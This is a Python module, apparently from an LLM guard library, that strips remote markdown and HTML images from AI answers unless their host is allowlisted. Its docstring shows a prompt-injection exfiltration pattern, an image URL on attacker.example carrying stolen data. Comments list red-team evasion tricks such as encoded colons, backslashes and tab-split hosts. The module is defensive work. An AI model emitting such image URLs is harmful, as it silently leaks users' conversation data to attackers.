"""Remote images in an answer: neutralised unless their host is allowlisted.

The classic exfiltration after an injection: the model writes
`![x](https://attacker.example/p?d=<data>)`, the client renders it, and the browser fetches
the URL, data and all, with no click. What holds whatever the attacker writes is the
*provenance* of the conversation (it read untrusted tool output) and the *fetch* (an image
loads by itself), not the words. So in an answer, every image whose URL's host is not in
`guards.pii.images.allow_hosts` (a host or any subdomain of it) becomes
`[image removed: <host>]`:

* inline markdown images `![alt](url "title")` (`<url>` destinations, nested brackets and
  parentheses);
* HTML tags that fetch by themselves (`<img>`, `<source>`, `<video>`, `<audio>`,
  `<iframe>`, `<embed>`, `<object>`, `<input>`, `<image>`, `<link>`, `<script>`): the
  whole tag when any absolute URL in it has a host that is not allowed;
* reference definitions `[1]: url` (which `![a][1]` uses, before or after): escaped to
  `\\[1]: url`, so they define nothing and `![a][1]` renders as text. A streamed answer
  cannot know whether a definition will serve an image or a link, so a definition of a
  host that is not allowed is escaped either way; and anywhere, not only at a line's
  start (a definition may sit in a quote or a list item; mid-line, the escape renders
  the same).

Relative URLs and `data:` images fetch nothing from elsewhere and pass; other schemes than
http(s) in an image are removed. `\\` counts as `/` (browsers read `https:\\\\host` so).

Streaming: `feed()` returns what is safe to send and holds back only a construct that is
not finished yet (from its `!`, `<` or `[`), at most `MAX_HOLD` characters; one
that runs on longer is released with its opening escaped (`!\\[`, `&lt;img`, `\\[`), so it
can never become an image later. The scanner is hand-written: each position starts at most
one bounded parse (`MAX_HOLD`), so the cost is linear in the text.
"""

from __future__ import annotations

import html
import re
from collections import Counter
from dataclasses import dataclass, field
from typing import Literal

from pydantic import BaseModel, ConfigDict, Field, field_validator

from keepgate.scrubbing.heldrun import HeldRun
from keepgate.scrubbing.hosts import SPECIAL_SCHEMES, strip_tab_newline

#: An unfinished construct is held back at most this long, then released escaped.
MAX_HOLD = 2048
#: The entity name counted in redactions, metrics and the audit.
ENTITY = "REMOTE_IMAGE"
FETCHING_TAGS = frozenset(
    {"img", "image", "source", "video", "audio", "iframe", "embed", "object", "input", "link"}
    | {"script", "track", "picture", "frame", "base", "body", "table", "td", "svg", "use"}
)


class ImageSettings(BaseModel):
    """`guards.pii.images`: remote images in answers (docs/pii.md, "Remote images")."""

    model_config = ConfigDict(extra="forbid")

    #: `tainted` (default): only in answers to a conversation that read untrusted output (a
    #: tool result, or a message an input guard flagged); `always`: in every answer; `off`.
    mode: Literal["off", "tainted", "always"] = "tainted"
    #: Hosts whose images pass (a host covers its subdomains): `cdn.example.com`.
    allow_hosts: list[str] = Field(default_factory=list)

    @field_validator("allow_hosts")
    @classmethod
    def _hosts(cls, v: list[str]) -> list[str]:
        return host_names(v, "cdn.example.com")


def host_names(v: list[str], example: str) -> list[str]:
    """An `allow_hosts` list as host names (lower case, no trailing dot, `*.` dropped);
    anything else (a URL, a path, a port) is refused with an example of what to write."""
    out = []
    for h in v:
        h = h.strip().lower().rstrip(".")
        if not h or any(c in h for c in "/:@ ?#\\"):
            raise ValueError(f"{h!r} is not a host name (write `{example}`)")
        h = h.removeprefix("*.")
        if "*" in h:
            raise ValueError(
                f"{h!r} is not a host name: a host covers its subdomains, and no wildcard "
                f"allows every host (write `{example}`; to check no link, set `mode: off`)"
            )
        out.append(h)
    return out


def url_host(url: str) -> str | None:
    """The host an image URL fetches from; None for one that fetches nothing elsewhere
    (relative, `data:`, a fragment); `scheme:` for another scheme."""
    u = strip_tab_newline(url.strip()).replace("\\", "/")
    low = u.lower()
    scheme = ""
    i = 0
    while i < len(low) and (low[i].isalnum() or low[i] in "+.-"):
        i += 1
    if 0 < i < len(low) and low[i] == ":" and low[0].isalpha():
        scheme = low[:i]
        rest = u[i + 1 :]
    else:
        rest = u
    if scheme and scheme not in ("http", "https"):
        return None if scheme == "data" else scheme + ":"
    if not rest.startswith("//"):
        return (scheme + ":") if scheme and rest else None  # relative, or `https:host`
    auth = rest.lstrip("/")
    for stop in "/?#":
        auth = auth.split(stop, 1)[0]
    auth = auth.rsplit("@", 1)[-1]
    if auth.startswith("["):
        host = auth.split("]", 1)[0] + "]"
    else:
        host = auth.split(":", 1)[0]
    return host.strip().lower().rstrip(".") or "?"


#: A CommonMark backslash escape: `\\` before ASCII punctuation stands for it.
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


def dest_host(dest: str, allow: list[str]) -> str | None:
    """The host a markdown destination fetches from that `allow` does not cover, None when
    it fetches nothing elsewhere or only from an allowed host. Read every way a renderer
    may: CommonMark decodes character references and backslash escapes in a destination
    (`https&#58;//h` is `https://h`; `https://ok.com\\@h` is `https://ok.com@h`, host `h`),
    and a browser reads a backslash left as a slash (red team 8: both passed)."""
    readings = [dest]
    if "&" in dest or "\\" in dest:
        for r in (html.unescape(dest), html.unescape(_MD_ESCAPE.sub(r"\1", dest))):
            if r not in readings:
                readings.append(r)
    for r in readings:
        host = url_host(r)
        if host is not None and not host_allowed(host, allow):
            return host
    return None


def host_allowed(host: str, allow: list[str]) -> bool:
    return any(host == h or host.endswith("." + h) for h in allow)


@dataclass
class ImageNeutraliser(HeldRun):
    """Per-text state: feed released text in, get text with remote images neutralised."""

    allow: list[str]
    counts: Counter[str] = field(default_factory=Counter)
    #: Hosts removed (at most 20), for the audit.
    hosts: list[str] = field(default_factory=list)
    pending: str = ""
    #: Per `_run` pass: the closing index of `pending` for `[]` and `()`, built on first need.
    _closers: dict[str, Closers] = field(default_factory=dict, repr=False)

    # -- scanning ------------------------------------------------------------------------

    def _run(self, final: bool) -> str:
        s = self.pending
        self._closers = {}
        out: list[str] = []
        start = 0  # s[start:] not emitted yet
        i = 0
        n = len(s)
        while i < n:
            c = s[i]
            if c == "!" or c == "<" or c == "[":
                res = self._parse(s, i, final)
                if res is None:  # needs more text
                    if n - i <= MAX_HOLD:
                        out.append(s[start:i])
                        self._keep(s, i)
                        return "".join(out)
                    # Too long to finish: release it with its opening escaped.
                    out.append(s[start:i])
                    out.append(_escaped(s, i))
                    start = i = i + (2 if c == "!" else 1)
                    continue
                end, replacement = res
                if replacement is not None:
                    out.append(s[start:i])
                    out.append(replacement)
                    start = end
                    i = end
                    continue
            i += 1
        out.append(s[start:])
        self._keep(s, n)
        return "".join(out)

    def _keep(self, s: str, i: int) -> None:
        self.pending = s[i:]
        self._closers = {}

    def _match(self, s: str, i: int, open_: str, close: str) -> int | None:
        """`_match` through this pass's closing index of the pair, built on first need (one
        regex scan in C: cheaper than the Python scan of even one held construct)."""
        idx = self._closers.get(open_)
        if idx is None:
            idx = self._closers[open_] = Closers(s, open_, close)
        return idx.match(i)

    def _parse(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
        """At a trigger: (end, replacement or None to leave it), or None: not finished."""
        c = s[i]
        if c == "!":
            return self._inline(s, i, final)
        if c == "<":
            return self._tag(s, i, final)
        return self._definition(s, i, final)

    def _remove(self, host: str) -> str:
        self.counts[ENTITY] += 1
        if len(self.hosts) < 20:
            self.hosts.append(host)
        return f"[image removed: {host}]"

    def _inline(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
        n = len(s)
        if i + 1 >= n:
            return None if not final else (i + 1, None)
        if s[i + 1] != "[":
            return (i + 1, None)
        close = self._match(s, i + 1, "[", "]")
        if close is None:
            return _unfinished(n - i, final, i)
        if close < 0:
            return (i + 1, None)
        j = close + 1
        if j >= n:
            return None if not final else (i + 1, None)
        if s[j] != "(":
            return (i + 1, None)  # a reference image: its definition is checked
        end = self._match(s, j, "(", ")")
        if end is None:
            return _unfinished(n - i, final, i)
        if end < 0:
            return (i + 1, None)
        dest = s[j + 1 : end].strip()
        if dest.startswith("<"):
            dest = dest[1:].split(">", 1)[0]
        else:
            dest = dest.split(None, 1)[0] if dest.split() else ""
        host = dest_host(dest, self.allow)
        if host is None:
            return (end + 1, None)
        return (end + 1, self._remove(host))

    def _tag(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
        n = len(s)
        j = i + 1
        while j < n and j - i <= 12 and s[j].isalpha():
            j += 1
        if j >= n and not final:
            return None
        name = s[i + 1 : j].lower()
        if name not in FETCHING_TAGS or (j < n and not (s[j].isspace() or s[j] in "/>")):
            return (i + 1, None)
        end = s.find(">", j, i + MAX_HOLD + 1)
        if end < 0:
            if not final and n - i <= MAX_HOLD:
                return None
            # An unterminated fetching tag: a renderer may still close it later.
            return (j, self._remove("unterminated <" + name + ">"))
        tag = s[i : end + 1]
        for host in _tag_hosts(tag):
            if not host_allowed(host, self.allow):
                return (end + 1, self._remove(host))
        return (end + 1, None)

    def _definition(self, s: str, i: int, final: bool) -> tuple[int, str | None] | None:
        n = len(s)
        close = self._match(s, i, "[", "]")
        if close is None:
            return _unfinished(n - i, final, i)
        if close < 0 or close + 1 >= n:
            return (i + 1, None) if close < 0 or final else None
        if s[close + 1] != ":":
            return (i + 1, None)
        j = close + 2
        while j < n and s[j] in " \t":
            j += 1
        if j < n and s[j] == "\n":  # the destination may be on the next line
            j += 1
            while j < n and s[j] in " \t":
                j += 1
        k = j
        while k < n and not s[k].isspace():
            k += 1
        if (k >= n or j >= n) and not final:
            return None
        dest = s[j:k]
        if dest.startswith("<"):
            dest = dest[1:].split(">", 1)[0]
        host = dest_host(dest, self.allow) if dest else None
        if host is None:
            return (i + 1, None)
        self._remove(host)  # counted and recorded as a removed image; the text is escaped
        return (i + 1, "\\[")


def _unfinished(held: int, final: bool, i: int) -> tuple[int, str | None] | None:
    """A construct the text ends inside: hold it (None) while more may come, and past the
    bound (None: `_run` escapes its opening); at the very end it is no construct."""
    return (i + 1, None) if final and held <= MAX_HOLD else None


def _match(s: str, i: int, open_: str, close: str, bound: int = MAX_HOLD) -> int | None:
    """The index of the bracket closing `s[i]`, -1 when it cannot close (a blank line),
    None when the text ends first (or the bound is reached). The reference scan: `Closers`
    answers the same in O(1) per opening (tests/scrubbing/test_pii_images_closers.py)."""
    depth = 0
    n = min(len(s), i + bound)
    j = i
    while j < n:
        c = s[j]
        if c == "\\":
            j += 2
            continue
        if c == open_:
            depth += 1
        elif c == close:
            depth -= 1
            if depth == 0:
                return j
        elif c == "\n" and j + 1 < len(s) and s[j + 1] == "\n":
            return -1  # a paragraph break ends any inline construct
        j += 1
    return None


_EVENTS = {
    o: re.compile(r"\\[\s\S]?|" + re.escape(o) + "|" + re.escape(c) + r"|\n(?=\n)")
    for o, c in (("[", "]"), ("(", ")"))
}


class Closers:
    """`_match` for every opening of one text at once, so an answer of many unclosed
    openings costs O(1) each instead of a scan to the bound each (42 k `![` took ~3 s).

    `_match` steps over a text one character at a time, two after a backslash; started at
    an opening, it falls into step with a scan from the text's start one character later at
    the latest (an opening is no backslash). So one scan from the start (the regex, in C)
    lists the backslash pairs, brackets and paragraph breaks; with `depth` the running
    count of opens minus closes, the bracket closing an opening at `i` is the first close
    after `i` at which `depth` falls below its value just after `i` (the opening counted
    whether or not the full scan saw it escaped), found for all at once with a stack."""

    def __init__(self, s: str, open_: str, close: str, bound: int = MAX_HOLD) -> None:
        self.bound = bound
        self.n = len(s)
        #: position -> (index of the closing bracket or -1: none in the text, index of the
        #: next paragraph break or -1); for each event (opening, or a backslash pair that
        #: may cover one).
        self.at: dict[int, list[int]] = {}
        waiting: list[tuple[int, list[int]]] = []  # (depth after it, its entry)
        breaks: list[list[int]] = []  # entries whose next break is not seen yet
        depth = 0
        for m in _EVENTS[open_].finditer(s):
            c = s[m.start()]
            if c == close:
                depth -= 1
                while waiting and waiting[-1][0] > depth:
                    waiting.pop()[1][0] = m.start()
                continue
            if c == "\n":
                for e in breaks:
                    e[1] = m.start()
                breaks = []
                continue
            if c == open_:
                depth += 1
            entry = [-1, -1]
            self.at[m.start()] = entry
            waiting.append((depth, entry))
            breaks.append(entry)

    def match(self, i: int) -> int | None:
        """`_match(s, i, open_, close, bound)` for `s[i] == open_`."""
        entry = self.at.get(i)
        if entry is None:  # an opening the full scan saw escaped: `\\[`
            entry = self.at[i - 1]
        close, brk = entry
        first = min(p for p in (close, brk, self.n) if p >= 0)
        if first >= min(self.n, i + self.bound):
            return None
        return -1 if first == brk else close


def _escaped(s: str, i: int) -> str:
    if s[i] == "!":
        return "!\\" + s[i + 1] if i + 1 < len(s) else "!"
    if s[i] == "<":
        return "&lt;"
    return "\\["


#: A special scheme with no `//` after it (`http:h`, `https:/h`): a browser goes to `h`
#: (`hosts.SPECIAL_SCHEMES`; on an https page an `http:` image is upgraded and fetched).
_SPECIAL_NO_SLASHES = re.compile(
    r"(?<![a-z0-9+.\-])(?:" + "|".join(SPECIAL_SCHEMES) + r"):/?(?=[^/\s\"'>])"
)


def _tag_hosts(tag: str) -> list[str]:
    """Hosts of the absolute URLs in a tag's attributes (`https://h`, `//h`, `http:\\\\h`,
    `http:h`), read with the tabs and newlines a URL parser removes removed too (red team 8:
    `https://cdn.ok.com\\t.evil.net` is evil.net's) and as written."""
    hosts = _hosts_in(tag)
    bare = strip_tab_newline(tag)
    return hosts + _hosts_in(bare) if bare != tag else hosts


def _hosts_in(tag: str) -> list[str]:
    # read as the browser does: every character reference, with or without its `;`
    # (`https&#58//h`: review of red team 8), then a backslash as a slash
    low = (
        (html.unescape(tag) if "&" in tag else tag)
        .lower()
        .replace("\\", "/")
        .replace("&#47;", "/")
        .replace("&sol;", "/")
        .replace("&#x2f;", "/")
    )
    out = []
    at = low.find("//")
    while at >= 0:
        k = at
        while k > 0 and (low[k - 1].isalnum() or low[k - 1] in "+.-:"):
            k -= 1
        start = k
        end = at + 2
        while end < len(low) and not (low[end].isspace() or low[end] in "\"'>"):
            end += 1
        host = url_host(low[start:end])
        if host is not None:
            out.append(host)
        at = low.find("//", end)
    for m in _SPECIAL_NO_SLASHES.finditer(low):
        end = m.end()
        while end < len(low) and not (low[end].isspace() or low[end] in "\"'>"):
            end += 1
        host = url_host("http://" + low[m.end() : end])
        if host is not None:
            out.append(host)
    return out
